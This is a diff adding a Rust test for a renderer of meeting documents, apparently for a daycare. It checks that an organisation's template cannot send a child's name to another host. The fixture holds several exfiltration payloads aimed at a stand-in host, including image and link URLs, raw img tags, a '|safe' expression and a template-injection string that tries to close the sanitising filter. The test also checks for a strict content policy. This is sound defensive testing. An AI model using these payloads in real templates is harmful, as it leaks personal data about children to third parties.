@@ -559,3 +559,76 @@ fn every_document_renders_from_a_bare_meeting() {
         }
     }
 }
+
+/// An organisation's template that tries to send the child's name to
+/// another host, every way Markdown and the template language allow.
+const CALLING_OUT: &str = "# Agenda for {{ child.name }}\n\n\
+![logo](https://tracker.example/a.png?name={{ child.name }})\n\n\
+See [the leaflet](https://tracker.example/b?name={{ child.name }}) and <https://tracker.example/c>.\n\n\
+<img src=\"https://tracker.example/d.png?name={{ child.name }}\">\n\n\
+![by reference][r]\n\n\
+[r]: https://tracker.example/e.png?name={{ child.name }}\n\n\
+{{ ('![x](https://tracker.example/f.png?' ~ child.name ~ ')')|safe }}\n\n\
+![inline](data:image/png;base64,iVBORw0KGgo=)\n";
+
+#[test]
+fn documents_cannot_call_out() {
+    let env = env_with(DAYCARE);
+    env.write("templates/agenda.md", CALLING_OUT);
+    // A stray end of a block cannot close the filter around the template.
+    let run = render(&env, &["agenda", DIR]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let md = env.read(&format!("{DIR}/agenda.md"));
+    let run = render(&env, &["agenda", DIR, "--html"]);
+    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
+    let html = env.read(&format!("{DIR}/agenda.html"));
+    assert!(html.contains("Agenda for Robin"), "{html}");
+    for (what, text) in [("markdown", &md), ("html", &html)] {
+        // No image and no link to another host, in any form a reader's
+        // program would fetch or follow.
+        for gone in [
+            "a.png", "d.png", "e.png", "f.png", "](http", "<http", "<img",
+        ] {
+            assert!(!text.contains(gone), "{what}: {gone} in\n{text}");
+        }
+        // A link's words stay, its address as plain text.
+        assert!(text.contains("the leaflet"), "{what}:\n{text}");
+    }
+    assert!(!html.contains("href="), "{html}");
+    assert!(!html.contains("src=\"http"), "{html}");
+    // The page's own policy: nothing from anywhere; its style by hash;
+    // images only inline.
+    let policy = html
+        .split("http-equiv=\"Content-Security-Policy\" content=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap_or_else(|| panic!("no content policy:\n{html}"));
+    assert!(policy.starts_with("default-src 'none';"), "{policy}");
+    assert!(policy.contains("style-src 'sha256-"), "{policy}");
+    assert!(policy.contains("img-src data:"), "{policy}");
+    assert!(
+        !policy.contains("unsafe") && !policy.contains("http"),
+        "{policy}"
+    );
+    // The policy comes before anything it governs.
+    assert!(html.find("Content-Security-Policy").unwrap() < html.find("<style>").unwrap());
+    // The style's hash is the style's.
+    let style = html
+        .split("<style>")
+        .nth(1)
+        .unwrap()
+        .split("</style>")
+        .next()
+        .unwrap();
+    let digest = <sha2::Sha256 as sha2::Digest>::digest(style.as_bytes());
+    let hash = lsk::render::html::base64(&digest);
+    assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");
+
+    // A template that tries to close the filter block itself is refused.
+    env.write(
+        "templates/agenda.md",
+        "{% endfilter %}![x](https://tracker.example/g.png){% filter upper %}\n",
+    );
+    let run = render(&env, &["agenda", DIR, "--stdout"]);
+    assert!(!run.stdout.contains("g.png"), "{}", run.stdout);
+}
